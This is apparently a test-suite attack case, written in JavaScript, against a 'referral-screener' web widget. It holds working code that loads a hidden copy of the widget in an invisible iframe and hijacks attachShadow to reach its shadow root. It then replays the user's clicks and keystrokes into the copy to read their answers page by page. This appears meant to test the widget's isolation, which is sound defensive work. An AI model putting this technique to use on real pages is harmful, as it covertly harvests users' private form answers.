import { inPage } from '../attack.mjs';

export default {
  id: 'script-replay',
  kind: 'script',
  when: ['after'],
  engines: ['chromium'],
  title: 'A script that has a hidden copy of the widget, and feeds it the same presses and keys',
  install: inPage(({ note }) => {
    const tag = document.querySelector('referral-screener');
    if (!tag) return;
    const frame = document.createElement('iframe');
    frame.style.cssText =
      'position: absolute; top: 0; left: 0; height: 20000px; opacity: 0; pointer-events: none; border: 0';
    document.body.append(frame);
    const { document: inside, Element: Inside } = frame.contentWindow;
    let root;
    const { attachShadow } = Inside.prototype;
    Inside.prototype.attachShadow = function (init) {
      return (root = attachShadow.call(this, init));
    };
    inside.body.style.margin = '0';
    inside.documentElement.lang = 'en';
    const script = inside.createElement('script');
    const trusted = frame.contentWindow.trustedTypes?.createPolicy('copy', { createScriptURL: (url) => url });
    script.src = trusted?.createScriptURL('/referral-screener.js') ?? '/referral-screener.js';
    inside.body.append(inside.importNode(tag, true), script);

    const place = () => {
      const { left, top, width } = tag.getBoundingClientRect();
      frame.style.width = `${width}px`;
      return [left, top];
    };
    const read = () =>
      setTimeout(() => {
        const chosen = [...root.querySelectorAll('input:checked')].map(({ value }) => value);
        note([root.querySelector('#page-heading').textContent.trim(), ...chosen].join(': '));
      }, 50);
    addEventListener(
      'click',
      ({ clientX, clientY }) => {
        const [left, top] = place();
        const at = root.elementFromPoint(clientX - left, clientY - top);
        at?.focus();
        at?.click();
        read();
      },
      true,
    );
    addEventListener(
      'keydown',
      ({ key }) => {
        const field = root.activeElement;
        if (field?.localName !== 'input' || key.length > 1) return;
        field.value += key;
        field.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
        read();
      },
      true,
    );
  }),
  learns: { page: 'what is answered, page by page', frame: null },
};
